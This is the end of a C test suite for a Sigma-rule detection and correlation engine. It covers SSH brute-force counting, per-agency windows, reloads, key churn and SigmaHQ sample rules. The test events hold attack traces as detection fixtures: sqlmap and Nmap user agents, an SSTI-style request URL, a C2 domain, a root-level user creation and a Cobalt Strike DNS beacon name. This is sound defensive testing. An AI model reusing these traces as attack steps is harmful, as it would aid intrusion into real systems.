	ruleset_corr_stats(rs, &keys, &ev_count);
	CHECK_INT(keys, 0);
	CHECK_INT(ev_count, 0);
	rs_scratch_free(s);
	ruleset_free(rs);

	/* generate: true makes the base rule alert as well */
	rs = corr_load("  generate: true\n");
	CHECK(rs != NULL);
	if (rs == NULL)
		return;
	s = rs_scratch_new(rs);
	memset(&g, 0, sizeof(g));
	fail_event(&ev, T0, "1.2.3.4", "root");
	CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 1);
	CHECK_STR(g.title[0], "fail");
	fail_event(&ev, T0 + 1, "1.2.3.4", "root");
	ruleset_match(rs, s, &ev, on_alert, &g);
	fail_event(&ev, T0 + 2, "1.2.3.4", "root");
	CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g), 2);
	rs_scratch_free(s);
	ruleset_free(rs);
}

/*
 * Regression (fuzz-sigma crash-corr-dup-ref-leak): a correlation naming
 * the same base rule twice (by name or by id) counts each match once,
 * and the names it drops are freed (LeakSanitizer in the ASan build).
 */
static void
test_event_count_dup_refs(void)
{
	static const char *lists[] = {
		"[fail, fail]",
		"[fail, 22222222-2222-4222-8222-222222222222, fail]",
		"[22222222-2222-4222-8222-222222222222, fail]",
	};
	static struct soc_event ev;
	char text[4096], *dir;
	struct rs_scratch *s;
	struct ruleset *rs;
	size_t nerr;

	for (size_t i = 0; i < sizeof(lists) / sizeof(lists[0]); i++) {
		struct got g = { 0 };

		dir = mktemp_dir();
		snprintf(text, sizeof(text),
		    "title: fail\nname: fail\nid: 22222222-2222-4222-8222-222222222222\n"
		    "logsource:\n  product: linux\n  service: sshd\n"
		    "detection:\n  sel:\n    event.outcome: failure\n"
		    "  condition: sel\n---\n"
		    "title: brute\nid: 33333333-3333-4333-8333-333333333333\n"
		    "correlation:\n  type: event_count\n  rules: %s\n"
		    "  group-by: [source.ip]\n  timespan: 1m\n"
		    "  condition: {gte: 3}\n", lists[i]);
		write_file(dir, "c.yml", text);
		rs = load_dir(dir, &nerr);
		fx_rmtree(dir);
		CHECK(rs != NULL && ruleset_count(rs) == 2 && nerr == 0);
		if (rs == NULL)
			continue;
		s = rs_scratch_new(rs);
		for (int k = 0; k < 3; k++) {
			fail_event(&ev, T0 + k * SEC, "1.2.3.4", "root");
			CHECK_INT(ruleset_match(rs, s, &ev, on_alert, &g),
			    k == 2 ? 1 : 0);
		}
		CHECK_INT(g.count[0], 3);
		rs_scratch_free(s);
		ruleset_free(rs);
	}
}

/* ---------------------------------------------------------------- */
/* shipped rules and the SigmaHQ sample */

static int
brute(struct ruleset *rs, int n, int64_t step)
{
	static struct soc_event ev;
	struct rs_scratch *s = rs_scratch_new(rs);
	struct got g = { 0 };
	int total = 0;

	for (int i = 0; i < n; i++) {
		fail_event(&ev, T0 + i * step, "203.0.113.9", "root");
		soc_event_set_cstr(&ev, SOC_F_MESSAGE,
		    "Failed password for root from 203.0.113.9 port 4711 ssh2");
		total += ruleset_match(rs, s, &ev, on_alert, &g);
	}
	for (int i = 0; i < g.n && i < 8; i++)
		CHECK_STR(g.title[i], "SSH brute force");
	rs_scratch_free(s);
	return total;
}

/* Failed logins from one address at an agency, n of them, 10 s apart. */
static int
brute_at(struct ruleset *rs, const char *agency, int n, int64_t start)
{
	static struct soc_event ev;
	struct rs_scratch *s = rs_scratch_new(rs);
	struct got g = { 0 };
	int total = 0;

	for (int i = 0; i < n; i++) {
		fail_event(&ev, start + i * 10 * SEC, "203.0.113.9", "root");
		soc_event_set_cstr(&ev, SOC_F_ORGANIZATION_ID, agency);
		total += ruleset_match(rs, s, &ev, on_alert, &g);
	}
	for (int i = 0; i < g.n; i++)
		CHECK_STR(g.key[i], "source.ip=203.0.113.9");
	rs_scratch_free(s);
	return total;
}

/* Windows are per agency, and survive a reload of an unchanged rule. */
static void
test_windows_agency_reload(void)
{
	const char *dirs[1] = { SOC_SRCDIR "/rules" };
	struct ruleset *rs, *rs2;
	size_t nerr = 0;

	rs = ruleset_load(dirs, 1, NULL, on_err, NULL, &nerr);
	CHECK(rs != NULL);
	if (rs == NULL)
		return;
	/* 5 at agency A and 3 at B from one address: no brute force */
	CHECK_INT(brute_at(rs, "a", 5, T0), 0);
	CHECK_INT(brute_at(rs, "b", 3, T0 + 50 * SEC), 0);
	/* 3 more at A within the window: A reaches 8 */
	CHECK_INT(brute_at(rs, "a", 3, T0 + 60 * SEC), 1);
	/* 6 at B, then a reload, then 2 more: the count survives */
	CHECK_INT(brute_at(rs, "b", 3, T0 + 80 * SEC), 0);	/* b: 6 */
	rs2 = ruleset_load(dirs, 1, NULL, on_err, NULL, &nerr);
	CHECK(rs2 != NULL);
	if (rs2 == NULL) {
		ruleset_free(rs);
		return;
	}
	CHECK(ruleset_adopt(rs2, rs) >= 1);
	ruleset_free(rs);
	CHECK_INT(brute_at(rs2, "b", 2, T0 + 110 * SEC), 1);
	ruleset_free(rs2);
}

static void
test_shipped(void)
{
	static struct soc_event ev;
	const char *dirs[1] = { SOC_SRCDIR "/rules" };
	struct ruleset *rs;
	size_t nerr = 0;

	errs[0] = '\0';
	rs = ruleset_load(dirs, 1, NULL, on_err, NULL, &nerr);	/* DIR/mapping.yml */
	CHECK(rs != NULL);
	if (rs == NULL)
		return;
	if (nerr)
		fputs(errs, stderr);
	CHECK_INT(nerr, 0);
	CHECK_INT(ruleset_count(rs), 50);	/* every shipped rule loads: 4 starter + 46 in rules/province */
	CHECK_INT(brute(rs, 8, 10 * SEC), 1);
	ruleset_free(rs);
	rs = ruleset_load(dirs, 1, NULL, on_err, NULL, &nerr);
	CHECK_INT(brute(rs, 7, 10 * SEC), 0);
	ruleset_free(rs);
	rs = ruleset_load(dirs, 1, NULL, on_err, NULL, &nerr);
	CHECK_INT(brute(rs, 8, 75 * SEC), 0);		/* 8 over ~10 minutes */
	ruleset_free(rs);
	rs = ruleset_load(dirs, 1, NULL, on_err, NULL, &nerr);
	/* the crossing (count 8), then one alert (count 1) per event */
	CHECK_INT(brute(rs, 16, 1 * SEC), 9);

	ev_base(&ev, "network.dns");
	soc_event_set_cstr(&ev, SOC_F_DNS_TYPE, "query");
	soc_event_set_cstr(&ev, SOC_F_DNS_QNAME,
	    "iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com");
	CHECK_INT(nmatch(rs, &ev), 1);
	soc_event_set_cstr(&ev, SOC_F_DNS_QNAME, "www.malware-c2.example");
	CHECK_INT(nmatch(rs, &ev), 1);
	/* the answer to the same lookup is not counted again */
	soc_event_set_cstr(&ev, SOC_F_DNS_TYPE, "answer");
	CHECK_INT(nmatch(rs, &ev), 0);
	soc_event_set_cstr(&ev, SOC_F_DNS_TYPE, "query");
	soc_event_set_cstr(&ev, SOC_F_DNS_QNAME, "notmalware-c2.example");
	CHECK_INT(nmatch(rs, &ev), 0);
	ev_base(&ev, "network.http");
	soc_event_set_cstr(&ev, SOC_F_USER_AGENT, "sqlmap/1.7#stable");
	CHECK_INT(nmatch(rs, &ev), 1);
	ev_base(&ev, "log.web");
	soc_event_set_cstr(&ev, SOC_F_USER_AGENT, "Mozilla/5.0 Nmap Scripting Engine");
	CHECK_INT(nmatch(rs, &ev), 1);
	soc_event_set_cstr(&ev, SOC_F_USER_AGENT, "Mozilla/5.0 Firefox");
	CHECK_INT(nmatch(rs, &ev), 0);
	ruleset_free(rs);
}

static const struct rule *
find_by_file(struct ruleset *rs, const char *frag)
{
	for (size_t i = 0; i < ruleset_count(rs); i++)
		if (strstr(rule_file(ruleset_rule(rs, i)), frag) != NULL)
			return ruleset_rule(rs, i);
	return NULL;
}

static int
alerts_for(struct ruleset *rs, const struct soc_event *ev, const char *title)
{
	struct rs_scratch *s = rs_scratch_new(rs);
	struct got g = { 0 };
	int n = 0;

	ruleset_match(rs, s, ev, on_alert, &g);
	for (int i = 0; i < g.n && i < 8; i++)
		n += strcmp(g.title[i], title) == 0;
	rs_scratch_free(s);
	return n;
}

/*
 * Sigma fields of the sample's log sources that no sensor fills (the
 * same list, with the reasons, is FIELDS_NOT_PRODUCED in
 * scripts/sigmahq-scope).  A refusal by any other field is a field the
 * mapping should have.
 */
static const char *const fields_not_produced[] = {
	"certificate.version", "certificate.key_alg",
	"certificate.sig_alg", "certificate.exponent", "certificate.curve",
	"basic_constraints.ca", "basic_constraints.path_len", "fingerprint",
};

/* 1 if a refusal names a log source or a field the sensors do not produce. */
static int
refusal_not_produced(const char *p)
{
	const char *f;
	size_t i, n;

	if (strstr(p, ": logsource (") != NULL)
		return strstr(p, ") is not mapped to any dataset") != NULL;
	if ((f = strstr(p, ": unknown field '")) == NULL)
		return 0;
	f += strlen(": unknown field '");
	n = strcspn(f, "'");
	for (i = 0; i < sizeof(fields_not_produced) /
	    sizeof(fields_not_produced[0]); i++)
		if (strlen(fields_not_produced[i]) == n &&
		    strncmp(f, fields_not_produced[i], n) == 0)
			return 1;
	return 0;
}

/*
 * The list above is still true: each field there is refused by the
 * mapping in its log source, and refusal_not_produced() tells those and
 * an unproduced log source from a field the mapping merely lacks.
 */
static void
test_not_produced(void)
{
	char *dir = mktemp_dir(), text[1024], name[64];
	struct ruleset *rs;
	size_t i, nerr = 0, n = sizeof(fields_not_produced) /
	    sizeof(fields_not_produced[0]);
	char *p;

	for (i = 0; i < n; i++) {
		const char *f = fields_not_produced[i];

		snprintf(text, sizeof(text), "title: np%zu\nid: np%zu\n"
		    "logsource:\n%sdetection:\n  sel:\n    %s: x\n"
		    "  condition: sel\n", i, i, strncmp(f, "cs-", 3) == 0 ?
		    "  category: proxy\n" :
		    "  product: zeek\n  service: x509\n", f);
		snprintf(name, sizeof(name), "np%02zu.yml", i);
		write_file(dir, name, text);
	}
	write_file(dir, "smb.yml", "title: smb\nid: np-smb\nlogsource:\n"
	    "  product: zeek\n  service: smb_files\ndetection:\n  sel:\n"
	    "    name: PSEXESVC.exe\n  condition: sel\n");
	write_file(dir, "unmapped.yml", "title: unmapped\nid: np-x\n"
	    "logsource:\n  category: proxy\ndetection:\n  sel:\n"
	    "    cs-no-such-field: x\n  condition: sel\n");
	write_file(dir, "good.yml", "title: good\nid: np-good\n"
	    "logsource:\n  category: proxy\ndetection:\n  sel:\n"
	    "    cs-content-type: application/x-msdownload\n  condition: sel\n");
	rs = load_dir(dir, &nerr);
	CHECK(rs != NULL && ruleset_count(rs) == 1);
	CHECK_INT(nerr, n + 2);
	for (p = strtok(errs, "\n"); p != NULL; p = strtok(NULL, "\n")) {
		if (strstr(p, "/unmapped.yml:") != NULL)
			CHECK(!refusal_not_produced(p));
		else if (!refusal_not_produced(p)) {
			printf("  not a refusal by what is not produced: %s\n", p);
			CHECK(0);
		}
	}
	ruleset_free(rs);
	fx_rmtree(dir);
}

static void
test_sigmahq(const char *data)
{
	static struct soc_event ev;
	char dir[1024];
	const char *dirs[1] = { dir };
	const char *line = "144.76.95.39 - - [20/May/2015:09:05:46 +0000] "
	    "\"GET /scripts//%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D%5C%22 "
	    "HTTP/1.0\" 404 313 \"-\" \"Mozilla/5.0 (compatible; MJ12bot/v1.4.4; "
	    "http://www.majestic12.co.uk/bot.php?+)\"";
	const struct rule *ssti;
	struct ruleset *rs;
	size_t nerr = 0;
	char *p;

	snprintf(dir, sizeof(dir), "%s/sigma/rules", data);
	errs[0] = '\0';
	rs = ruleset_load(dirs, 1, MAPPING, on_err, NULL, &nerr);
	CHECK(rs != NULL);
	if (rs == NULL)
		return;
	printf("SigmaHQ sample: %zu rules loaded, %zu refused\n",
	    ruleset_count(rs), nerr);
	for (p = strtok(errs, "\n"); p != NULL; p = strtok(NULL, "\n")) {
		printf("  refused: %s\n", p);
		/* every refusal names file:line and is outside linux/web/dns */
		CHECK(strstr(p, ".yml:") != NULL);
		CHECK(strstr(p, "/linux/") == NULL);
		CHECK(strstr(p, "/web/") == NULL);
		CHECK(strstr(p, "/dns/") == NULL);
		/* and names a log source or a field the sensors do not produce */
		CHECK(refusal_not_produced(p));
	}
	CHECK_INT(ruleset_count(rs) + nerr, 30);
	/* all load since blocked and rejected are mapped */
	CHECK_INT(ruleset_count(rs), 30);

	ssti = find_by_file(rs, "web_ssti_in_access_logs");
	CHECK(ssti != NULL);
	if (ssti != NULL) {
		ev_base(&ev, "log.web");
		soc_event_set_cstr(&ev, SOC_F_MESSAGE, line);
		soc_event_set_cstr(&ev, SOC_F_HTTP_METHOD, "GET");
		soc_event_set_cstr(&ev, SOC_F_URL_ORIGINAL,
		    "/scripts//%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D%5C%22");
		soc_event_set_int(&ev, SOC_F_HTTP_STATUS, 404);
		CHECK_INT(alerts_for(rs, &ev, rule_title(ssti)), 0);
		soc_event_set_int(&ev, SOC_F_HTTP_STATUS, 200);
		CHECK_INT(alerts_for(rs, &ev, rule_title(ssti)), 1);
		/* same from the wire: no log line, keywords on the URI */
		soc_event_unset(&ev, SOC_F_MESSAGE);
		soc_event_set_cstr(&ev, SOC_F_EVENT_DATASET, "network.http");
		CHECK_INT(alerts_for(rs, &ev, rule_title(ssti)), 1);
		soc_event_set_cstr(&ev, SOC_F_HTTP_METHOD, "POST");
		CHECK_INT(alerts_for(rs, &ev, rule_title(ssti)), 0);
	}
	/* a few more SigmaHQ rules on crafted events */
	ev_base(&ev, "log.sshd");
	soc_event_set_cstr(&ev, SOC_F_MESSAGE,
	    "sshd[42]: error: Corrupted MAC on input. [preauth]");
	CHECK_INT(alerts_for(rs, &ev, "Suspicious OpenSSH Daemon Error"), 1);
	ev_base(&ev, "log.syslog");
	soc_event_set_cstr(&ev, SOC_F_MESSAGE,
	    "useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john");
	CHECK_INT(alerts_for(rs, &ev, "Privileged User Has Been Created"), 1);
	soc_event_set_cstr(&ev, SOC_F_MESSAGE,
	    "useradd[1337]: new user: name=b, UID=1000, GID=100, home=/home/b");
	CHECK_INT(alerts_for(rs, &ev, "Privileged User Has Been Created"), 0);
	ev_base(&ev, "network.dns");
	soc_event_set_cstr(&ev, SOC_F_DNS_QNAME, "aaa.stage.12345.evil.com");
	CHECK_INT(alerts_for(rs, &ev, "Cobalt Strike DNS Beaconing"), 1);
	ruleset_free(rs);
}

/* corr_state_check() after every step, and the checker's reason if not. */
static void
check_state(struct ruleset *rs, const char *step)
{
	const char *why = NULL;
	int rc = corr_state_check(rs->cs, &why);

	if (rc != 0)
		fprintf(stderr, "corr_state_check after %s: %s\n", step,
		    why ? why : "?");
	CHECK_INT(rc, 0);
}

/*
 * Heavy churn: more distinct keys than the table keeps (evictions of the
 * least recently used), keys revisited to move them in the LRU list and
 * to cross the threshold, events out of order and too old, partial and
 * full expiry, and a reload that adopts the windows.
 */
static void
test_corr_churn(void)
{
	static struct soc_event ev;
	struct ruleset *rs = corr_load(""), *rs2;
	struct rs_scratch *s;
	struct got g = { 0 };
	const int nkeys = RS_CORR_MAXKEYS + 4500;
	char user[32];
	size_t keys;
	uint64_t evicted;
	int alerts = 0;

	CHECK(rs != NULL);
	if (rs == NULL)
		return;
	s = rs_scratch_new(rs);
	check_state(rs, "load");
	for (int i = 0; i < nkeys; i++) {
		snprintf(user, sizeof(user), "u%d", i);
		fail_event(&ev, T0 + i * (SEC / 1000), "198.51.100.7", user);
		ruleset_match(rs, s, &ev, NULL, NULL);
		/* every 7th key twice more, the third crossing gte: 3 */
		if (i % 7 == 0) {
			fail_event(&ev, T0 + i * (SEC / 1000) - SEC, "198.51.100.7",
			    user);
			ruleset_match(rs, s, &ev, NULL, NULL);
			fail_event(&ev, T0 + i * (SEC / 1000) + SEC, "198.51.100.7",
			    user);
			alerts += ruleset_match(rs, s, &ev, on_alert, &g);
		}
		/* an old key revisited: found again or re-created */
		if (i % 5 == 0 && i > 1000) {
			snprintf(user, sizeof(user), "u%d", i - 1000);
			fail_event(&ev, T0 + i * (SEC / 1000) - 3600 * SEC,
			    "198.51.100.7", user);
			ruleset_match(rs, s, &ev, NULL, NULL);
		}
		if (i % 10007 == 0)
			check_state(rs, "churn");
	}
	check_state(rs, "churn");
	ruleset_corr_stats(rs, &keys, &evicted);
	CHECK_INT(keys, RS_CORR_AGENCY_MAXKEYS);	/* one agency: its quota */
	CHECK(evicted >= 4500);
	CHECK_INT(alerts, (nkeys + 6) / 7);

	/* adopt into a fresh load (a new hash key), then expire */
	rs2 = corr_load("");
	CHECK(rs2 != NULL);
	if (rs2 != NULL) {
		CHECK(ruleset_adopt(rs2, rs) > 0);
		check_state(rs, "adopt (old)");
		check_state(rs2, "adopt (new)");
		ruleset_expire(rs2, soc_now_ns());
		check_state(rs2, "expire (none stale)");
		ruleset_expire(rs2, soc_now_ns() + 100000 * SEC);
		check_state(rs2, "expire (all)");
		ruleset_corr_stats(rs2, &keys, &evicted);
		CHECK_INT(keys, 0);
		ruleset_free(rs2);
	}
	rs_scratch_free(s);
	ruleset_free(rs);
}

int
main(void)
{
	const char *data = check_data_dir();

	test_plain_and_wildcards();
	test_string_modifiers();
	test_typed();
	test_conditions();
	test_more_modifiers();
	test_characters();
	test_refusals();
	test_event_count();
	test_event_count_dup_refs();
	test_shipped();
	test_windows_agency_reload();
	test_corr_churn();
	test_not_produced();
	if (data != NULL)
		test_sigmahq(data);
	if (check_done() != 0)
		return 1;
	if (data == NULL) {
		printf("shared data absent: SigmaHQ sample skipped\n");
		return 77;
	}
	return 0;
}
